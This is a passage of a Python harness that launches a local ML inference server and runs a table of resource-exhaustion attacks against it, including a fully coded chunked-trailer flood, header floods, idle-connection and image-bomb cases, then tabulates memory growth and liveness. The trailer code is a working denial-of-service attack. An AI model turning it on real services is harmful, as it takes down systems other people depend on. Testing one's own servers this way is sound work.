        response.read()
        internal = str(response.status)
    except (OSError, http.client.HTTPException) as e:
        internal = "refused" if isinstance(e, ConnectionRefusedError) else type(e).__name__
    finally:
        conn.close()
    shows = b"process_resident_memory_bytes" in public.body
    outcome = f"public port: {public.short()}{' (memory, traffic shown)' if shows else ''}; internal port: {internal}"
    return outcome, {"public_status": public.status, "public_shows_process_memory": shows, "internal_status": internal}


# --- 10: chunked trailers -------------------------------------------------------------------


def trailer_attack(connections: int, stream_s: float) -> Callable[[Target], Finding]:
    def run(t: Target) -> Finding:
        return trailers(t, connections, stream_s)

    each = "one connection" if connections == 1 else f"{connections} connections at once"
    run.__doc__ = (
        f"For {stream_s:.0f} s, {each} of authenticated chunked POSTs, each the last chunk and then one trailer "
        "field whose value never ends; a connection the server refuses is opened again."
    )
    return run


def trailers(t: Target, connections: int, stream_s: float) -> Finding:
    """After its last chunk (``0\\r\\n``) a chunked body may carry trailer fields, which the parser holds while
    one is unfinished: each connection sends one value in 16 KB pieces until the server answers or closes
    (then it connects again) or ``stream_s`` is up.

    Its figures: each attempt's time from its first trailer byte to the server's answer, the server's RSS
    growth over its idle RSS, and GET /v2/health/live on the internal (metrics) port every 100 ms from
    another process with a 15 s timeout, as the kubelet's probe asks it.
    """
    opening = request_head(
        "POST", INFER,
        f"Authorization: {serve.BASIC_AUTH}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        "0\r\nX-Trailer: ",
    )  # fmt: skip
    piece = b"a" * 16_384
    internal = Prober(t.metrics_port, None)
    internal.wait_first()
    until = time.monotonic() + min(stream_s, t.left() - 10)
    # Per stop reason (a status, "time limit", "reset"...): the seconds each attempt took to it.
    stops: dict[str, list[float]] = {}
    accepted = [0] * connections

    def job(i: int) -> Callable[[], None]:
        def run() -> None:
            while t.stop_reason(until) is None:
                try:
                    sock = t.connect()
                except (OSError, ssl.SSLError) as e:
                    stops.setdefault(f"connect failed ({type(e).__name__})", []).append(0.0)
                    time.sleep(0.1)
                    continue
                try:
                    sock.sendall(opening)
                    began = time.monotonic()
                    sent, why = pump(t, sock, iter(lambda: piece, b""), stall_s=10.0, until=until)
                    took = time.monotonic() - began
                except (OSError, ssl.SSLError) as e:
                    sent, why, took = 0, f"closed ({type(e).__name__})", 0.0
                finally:
                    close_all([sock])
                accepted[i] += sent
                stops.setdefault(why or "all sent", []).append(took)

        return run

    in_threads([job(i) for i in range(connections)], timeout=max(1.0, until - time.monotonic() + 15))
    live = internal.stop()
    growth = t.monitor.peak_kib / 1024 - t.monitor.idle_mib
    attempts = "; ".join(
        f"{len(took)} x {why} after {_seconds(statistics.median(took))} (max {_seconds(max(took))})"
        for why, took in sorted(stops.items(), key=lambda item: -len(item[1]))
    )
    failures = ", ".join(f"{n} x {kind}" for kind, n in live.failures.items())
    internal_live = f"internal live {live.probes - live.failed}/{live.probes} answered" + (
        f" ({failures})" if failures else ""
    )
    return f"{attempts}; RSS +{growth:.0f} MiB; {internal_live}", {
        "stops": {why: [round(s, 4) for s in took] for why, took in stops.items()},
        "bytes_accepted": sum(accepted),
        "rss_growth_mib": round(growth, 1),
        "internal_live": asdict(live),
    }


def _seconds(s: float) -> str:
    return f"{s * 1000:.1f} ms" if s < 1 else f"{s:.1f} s"


# --- the table of attacks, and running them --------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    budget_s: float
    run: Callable[[Target], Finding]
    stops_server: bool = False

    @property
    def what(self) -> str:
        return " ".join((self.run.__doc__ or "").split("\n\n")[0].split())


ATTACKS: tuple[Attack, ...] = (
    Attack("header-flood", 60, header_flood),
    Attack("header-value", 60, header_value),
    Attack("pipelining", 50, pipelining),
    Attack("idle-one", 40, idle_one),
    Attack("idle-many", 50, idle_many),
    Attack("image-png-1x25m", 30, image_attack(png_declares_1x25m, "bomb.png")),
    Attack("image-png-5000x5000", 30, image_attack(png_rgba_5000, "big.png")),
    Attack("image-png-truncated", 20, image_attack(png_without_end, "cut.png")),
    Attack("image-jpeg-truncated", 20, image_attack(jpeg_cut, "cut.jpg")),
    Attack("image-dds", 20, image_attack(dds_unknown_pixel_format, "x.dds")),
    Attack("image-blp", 20, image_attack(blp2_jpeg, "x.blp")),
    Attack("image-spider", 20, image_attack(spider_image_in_stack, "x.spi")),
    Attack("unfinished-bodies", 100, unfinished_bodies),
    Attack("non-finite", 20, non_finite),
    Attack("shutdown", 55, shutdown, stops_server=True),
    Attack("metrics", 15, metrics),
    Attack("trailer-one", 60, trailer_attack(1, 40.0)),
    Attack("trailer-four", 65, trailer_attack(4, 45.0)),
)


@dataclass
class Result:
    attack: str
    what: str
    outcome: str
    idle_rss_mib: float
    peak_rss_mib: float
    live: Liveness
    survived: str
    seconds: float
    details: Details
    log: str


def check_alive(server: serve.Server) -> str:
    code = server.proc.poll()
    if code is not None:
        return f"no: exited {code}"
    status = serve.get(server.url + LIVE, timeout=5.0, context=server.context)
    return "yes" if status == 200 else f"no: live answered {status or 'nothing in 5 s'}"


def run_attack(
    app: App, attack: Attack, *, index: int, store: Path, tls: TlsFiles | None, args: argparse.Namespace
) -> Result:
    ca = tls.ca if app.tls and tls else None
    context = ssl.create_default_context(cafile=str(ca)) if ca else None
    metrics_port = serve.free_port()
    server = serve.start_ours(
        store, f"attack{index}-{attack.name}", app.directory, context=context,
        extra_env=server_env(app, tls, metrics_port),
    )  # fmt: skip
    try:
        server.wait_ready(timeout=60)
    except RuntimeError as e:
        server.stop(timeout=5)
        return Result(
            attack.name, attack.what, f"did not start: {e}", 0.0, 0.0, Liveness(), "n/a", 0.0, {}, str(server.log_path)
        )
    monitor = RssMonitor(server.proc.pid, args.rss_limit_mib, args.kill_mib).start()
    prober = Prober(server.port, ca)
    prober.wait_first()
    began = time.monotonic()
    target = Target(server, monitor, context, metrics_port, began + attack.budget_s)
    box: dict[str, Finding] = {}
    errors: list[str] = []

    def body() -> None:
        try:
            box["finding"] = attack.run(target)
        except Exception as e:
            errors.append(f"harness error: {type(e).__name__}: {e}")
            traceback.print_exc()

    worker = threading.Thread(target=body, daemon=True)
    worker.start()
    worker.join(attack.budget_s + 15)
    if worker.is_alive():
        # Killing the server breaks whatever the attack's sockets wait on.
        server.proc.kill()
        worker.join(10)
        errors.append(f"over its {attack.budget_s:.0f} s budget: server killed")
    seconds = time.monotonic() - began
    live = prober.stop()
    if monitor.killed_at_mib is not None:
        survived = f"no: killed by the harness at {monitor.killed_at_mib:.0f} MiB"
    elif attack.stops_server:
        survived = "n/a (stopped)"
    else:
        survived = check_alive(server)
    peak = monitor.stop()
    server.stop(timeout=10)
    outcome, details = box.get("finding", ("", {}))
    if errors:
        outcome = "; ".join([outcome, *errors]) if outcome else "; ".join(errors)
    return Result(
        attack.name, attack.what, outcome, round(monitor.idle_mib, 1), round(peak, 1), live, survived,
        round(seconds, 1), details, str(server.log_path),
    )  # fmt: skip


def parse_app(text: str, tls: bool) -> App:
    directory, _, flag = text.rpartition(":")
    if flag == "plain" and directory:
        path, plain_only = Path(directory), True
    else:
        path, plain_only = Path(text), False
    path = path.resolve()
    if not (path / "mlapp" / "serve").is_dir():
        raise argparse.ArgumentTypeError(f"--app {text}: {path} holds no mlapp/serve package")
    return App(path, tls=tls and not plain_only, plain_only=plain_only)


def select_attacks(only: str | None) -> list[Attack]:
    if not only:
        return list(ATTACKS)
    wanted = [w.strip() for w in only.split(",") if w.strip()]
    chosen = [a for a in ATTACKS if any(a.name == w or a.name.startswith(w + "-") for w in wanted)]
    unknown = [w for w in wanted if not any(a.name == w or a.name.startswith(w + "-") for a in ATTACKS)]
    if unknown:
        names = ", ".join(a.name for a in ATTACKS)
        raise SystemExit(f"--only: no attack named {', '.join(unknown)}; the attacks are {names}")
    return chosen


def raise_fd_limit() -> tuple[int, int]:
    """The soft limit on open files, raised to the hard one, for this process and the servers it starts."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return resource.getrlimit(resource.RLIMIT_NOFILE)


def table(app: App, results: list[Result]) -> str:
    lines = [
        f"## {app.label}",
        "",
        "| attack | outcome | idle RSS MiB | peak RSS MiB | live p50 / max ms | live failed | survived |",
        "|---|---|---:|---:|---:|---:|---|",
    ]
    for r in results:
        failed = f"{r.live.failed}/{r.live.probes}"
        lines.append(
            f"| {r.attack} | {r.outcome.replace('|', '/')} | {r.idle_rss_mib:.0f} | {r.peak_rss_mib:.0f} "
            f"| {r.live.cell()} | {failed} | {r.survived} |"
        )
    return "\n".join(lines) + "\n"


def git(directory: Path, *args: str) -> str:
    out = subprocess.run(["git", "-C", str(directory), *args], capture_output=True, text=True, check=False, timeout=10)
    return out.stdout.strip()


def git_commit(directory: Path) -> str | None:
    return git(directory, "rev-parse", "HEAD") or None


def git_dirty(directory: Path) -> bool:
    """Whether the app's files differ from the commit: figures from a working tree name no commit alone."""
    return bool(git(directory, "status", "--porcelain", "--", "."))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--app", action="append", required=True, help="DIR or DIR:plain (repeatable)")
    parser.add_argument("--tls", action="store_true", help="TLS to every app not marked :plain")
    parser.add_argument("--json", type=Path, help="also write the results here")
    parser.add_argument("--only", help="comma-separated attacks, or prefixes such as image or idle")
    parser.add_argument("--rss-limit-mib", type=float, default=1536, help="stop sending once the server is past this")
    parser.add_argument("--kill-mib", type=float, default=4096, help="kill the server past this")
    args = parser.parse_args()
    try:
        apps = [parse_app(a, args.tls) for a in args.app]
    except argparse.ArgumentTypeError as e:
        parser.error(str(e))
    attacks = select_attacks(args.only)
    soft, hard = raise_fd_limit()
    serve.WORK.mkdir(exist_ok=True)
    store = serve.ensure_model()
    report: dict[str, Any] = {
        "started": datetime.datetime.now(datetime.UTC).isoformat(timespec="seconds"),
        "machine": {"cpus": os.cpu_count(), "platform": platform.platform(), "python": platform.python_version()},
        "nofile": [soft, hard],
        "rss_limit_mib": args.rss_limit_mib,
        "kill_mib": args.kill_mib,
        "apps": [],
    }
    with tempfile.TemporaryDirectory(prefix="attack-tls-") as tmp:
        tls = make_tls_files(Path(tmp)) if args.tls else None
        for index, app in enumerate(apps, 1):
            results: list[Result] = []
            for attack in attacks:
                serve.log(f"{app.label}: {attack.name}")
                result = run_attack(app, attack, index=index, store=store, tls=tls, args=args)
                serve.log(
                    f"  -> {result.outcome} | peak {result.peak_rss_mib:.0f} MiB | live {result.live.cell()} ms, "
                    f"{result.live.failed} failed | survived {result.survived}"
                )
                results.append(result)
            print(table(app, results), flush=True)
            report["apps"].append(
                {
                    "app": str(app.directory),
                    "tls": app.tls,
                    "plain_only": app.plain_only,
                    "commit": git_commit(app.directory),
                    "uncommitted_changes": git_dirty(app.directory),
                    "results": [asdict(r) for r in results],
                }
            )
    if args.json:
        args.json.write_text(json.dumps(report, indent=2) + "\n", encoding="utf-8")
    return 0


if __name__ == "__main__":
    sys.exit(main())
